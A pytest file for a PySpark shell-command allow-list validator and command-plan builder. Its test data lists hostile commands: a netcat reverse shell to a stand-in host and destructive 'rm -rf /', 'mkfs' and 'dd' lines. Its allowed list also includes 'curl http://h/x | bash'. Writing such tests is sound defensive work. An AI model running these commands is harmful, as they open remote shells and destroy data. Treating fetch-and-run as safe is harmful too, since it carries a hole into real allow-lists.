"""Command policy and plans."""

import re
import shlex

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyspark.sql import functions as F

from faultline.operators import policy
from faultline.operators.policy import (
    DEFAULT_RULES, Rule, by_category, policy_table, remove_rules, shell_words, upsert_rules,
    validate_commands,
)
from faultline.plans.command_plan import create_plans


def verdicts(spark, commands, policy=None):
    df = spark.createDataFrame([(c,) for c in commands], "command_text string")
    checked = validate_commands(df, policy or policy_table(spark)).collect()
    return {r["command_text"]: r["verdict"] for r in checked}


ALLOWED = [
    "ping -c 3 8.8.8.8", "netstat -tulpn", "ss -tulpn", "sudo iptables -L -n",
    "dig @8.8.8.8 example.org", "curl http://h/x | bash", "lsmod", "lsmod | grep drv", "modinfo drv",
    "dmesg -T", "dmesg -T | grep drv", "sysctl -a", "sysctl net.core.rmem_max", "ethtool -i eth0",
    "ethtool -m eth0", "lspci -v", "lspci -vvv", "ip addr show", "ip -4 addr show", "arp -a -n",
    "cat /etc/resolv.conf", "systemctl status", "ps aux", "ps -ef", "head -n 10 /etc/hosts",
    "hostname -I", "uptime", "df -h", "free -h", "du --max-depth=1 /var", "nslookup -type=mx h",
    "curl --max-time=5 h", "lsof -i:8080", "curl -H 'X: a b' h", "journalctl -u nginx --since 'a b'",
]
UNKNOWN = ["rm -rf /", "mkfs.ext4 /dev/sda", "dd if=/dev/zero", "shutdown -h now", "reboot", "", "  ",
           "sudo", "ping 'open", "ping x\\"]
REFUSED = ["nc -e /bin/bash h 4444", "tcpdump -A", "systemctl --failed", "ping -f h", "uptime -p",
           "ping -cq9 h"]


def test_verdicts(spark):
    found = verdicts(spark, ALLOWED + UNKNOWN + REFUSED)
    assert {c for c in ALLOWED if found[c] != "allowed"} == set()
    assert {c for c in UNKNOWN if found[c] != "command_not_allowed"} == set()
    assert {c for c in REFUSED if found[c] != "argument_not_allowed"} == set()


def test_policy_table(spark):
    assert len(DEFAULT_RULES) == 55
    rows = policy_table(spark).orderBy("position").collect()
    assert len(rows) == 53 and rows[0]["command"] == "ping"
    by_name = {r["command"]: r for r in rows}
    assert by_name["systemctl"]["description"] == "系统服务状态"
    assert by_name["systemctl"]["position"] < by_name["service"]["position"]
    assert len(by_name["ethtool"]["allowed_args"]) == 14
    listed = {r["category"]: [c["command"] for c in r["commands"]] for r in by_category(
        policy_table(spark)).collect()}
    assert listed["dns"] == ["dig", "nslookup", "host"]
    assert set(listed) == {"network", "port", "dns", "service", "firewall", "system", "driver",
                           "hardware"}


def test_policy_changes(spark):
    custom = policy_table(spark, [Rule("rm", "x", "system", ["-r"], "high")])
    assert verdicts(spark, ["rm -r x", "rm -f x"], custom) == {
        "rm -r x": "allowed", "rm -f x": "argument_not_allowed"
    }
    new = custom.filter("command = 'rm'").withColumnRenamed("position", "seq")
    more = upsert_rules(policy_table(spark), new)
    assert more.count() == 54 and more.orderBy(F.desc("position")).first()["command"] == "rm"
    less = remove_rules(more, spark.createDataFrame([("ping",)], "command string"))
    assert verdicts(spark, ["ping h", "rm x"], less) == {
        "ping h": "command_not_allowed", "rm x": "allowed"
    }


@settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text(alphabet="ab \t\n'\"\\$é-", max_size=14), min_size=60, max_size=120))
def test_shell_words_agree_with_shlex(spark, texts):
    def expected(text):
        try:
            return shlex.split(text)
        except ValueError:
            return None

    df = spark.createDataFrame([(t,) for t in texts], "t string")
    for row in df.select("t", shell_words(F.col("t")).alias("w")).collect():
        assert row["w"] == expected(row["t"]), repr(row["t"])


def plan_rows(spark):
    return spark.createDataFrame(
        [("p", 0, "网络", "d", "ping h"), ("p", 1, "网络", "d", "tcpdump -n"), ("p", 2, "x", "d", "rm x"),
         ("q", 0, "网络", "d", "uptime"), ("r", 0, "网络", "d", "nc -e x")],
        "plan_id string, command_idx bigint, category string, description string, command string",
    )


def test_plans(spark):
    plans = create_plans(plan_rows(spark), policy_table(spark), ["h1", "h2"])
    rows = {(r["plan_id"], r["command_idx"]): r for r in plans.commands.collect()}
    assert [rows["p", i]["risk_level"] for i in range(3)] == ["low", "medium", "unknown"]
    assert [rows["p", i]["requires_approval"] for i in range(3)] == [False, True, True]
    assert rows["p", 0]["targets"] == ["h1", "h2"]
    summary = {r["plan_id"]: tuple(r[1:]) for r in plans.summary.collect()}
    assert summary == {
        "p": (3, 0, True, False, 6), "q": (1, 0, False, False, 2), "r": (1, 0, True, True, 2)
    }
    auto = create_plans(plan_rows(spark), policy_table(spark), auto_approve=True)
    assert {r["requires_approval"] for r in auto.summary.collect()} == {False}
    assert auto.commands.first()["targets"] == ["localhost"]
    unchecked = create_plans(plan_rows(spark), None)
    assert {r["risk_level"] for r in unchecked.commands.collect()} == {"unknown"}


def test_policy_is_broadcast_when_small(spark):
    df = spark.createDataFrame([("ping h",)], "command_text string")
    plan = validate_commands(df, policy_table(spark))._jdf.queryExecution().executedPlan().toString()
    assert "BroadcastHashJoin" in plan and "Exchange hashpartitioning" not in plan
    with pytest.raises(Exception):
        policy_table(spark, [Rule("x", "", "", allowed_patterns=["("])])


def test_patterns_are_constants_of_the_plan(spark):
    """No regex of the plan takes its pattern from a column, so each is compiled once."""
    df = spark.createDataFrame([("ss -tulpn",)], "command_text string")
    checked = validate_commands(df, policy_table(spark))
    plan = checked._jdf.queryExecution().optimizedPlan().toString()
    found = re.findall(r"RLIKE\([^,]+, (.{5})", plan)
    assert found.count("(?Ud)") > 10 and "lambd" not in found


def test_many_patterns_are_refused(spark, monkeypatch):
    monkeypatch.setattr(policy, "PATTERNS", 3)
    df = spark.createDataFrame([("ss -tulpn",)], "command_text string")
    with pytest.raises(ValueError, match="different patterns"):
        validate_commands(df, policy_table(spark))
